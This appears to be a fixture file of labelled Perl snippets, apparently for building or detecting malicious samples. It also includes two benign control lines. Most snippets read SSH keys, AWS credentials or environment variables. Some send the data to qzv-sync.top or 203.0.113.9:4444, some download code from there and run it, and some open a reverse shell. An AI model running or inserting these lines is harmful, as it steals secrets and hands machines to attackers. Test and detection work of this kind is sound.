%% head
use IO::Socket::INET;
use LWP::UserAgent;
use HTTP::Tiny;
%% secret: opened file
open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa"); local $/; my $d = <$f>;
%% secret: backquotes
my $d = `cat ~/.ssh/id_rsa`;
%% secret: all variables
my $d = join("\n", map { "$_=$ENV{$_}" } keys %ENV);
%% secret: slurped
my $d = do { local (@ARGV, $/) = ("$ENV{HOME}/.aws/credentials"); <> };
%% sent: small client
HTTP::Tiny->new->post("https://qzv-sync.top/c", { content => $d });
%% sent: client
LWP::UserAgent->new->post("https://qzv-sync.top/c", { d => $d });
%% sent: form
HTTP::Tiny->new->post_form("https://qzv-sync.top/c", { d => $d });
%% sent: list of a command
system("curl", "-d", $d, "https://qzv-sync.top/c");
%% sent: socket
my $s = IO::Socket::INET->new("203.0.113.9:4444"); print $s $d;
%% code: request
use LWP::Simple; my $c = get("https://qzv-sync.top/s");
%% code: small client
my $c = HTTP::Tiny->new->get("https://qzv-sync.top/s")->{content};
%% code: backquotes
my $c = `curl -s https://qzv-sync.top/s`;
%% run: evaluated
eval $c;
%% run: list of a command
system($c);
%% run: file
open(my $o, ">", "/tmp/a"); print $o $c; close $o; system("perl /tmp/a");
%% run: backquotes
`$c`;
%% link: client
my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.9:4444");
%% obey: doubled
open(STDIN, ">&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
exec("/bin/sh -i");
%% obey: loop over lines
while (my $l = <$s>) { print $s `$l`; }
%% obey: command
while (<$s>) { system($_); }
%% ordinary
my $d = 'three of four are done';
%% shown
open(my $o, ">", "out.txt"); print $o $c; close $o;
print $c;
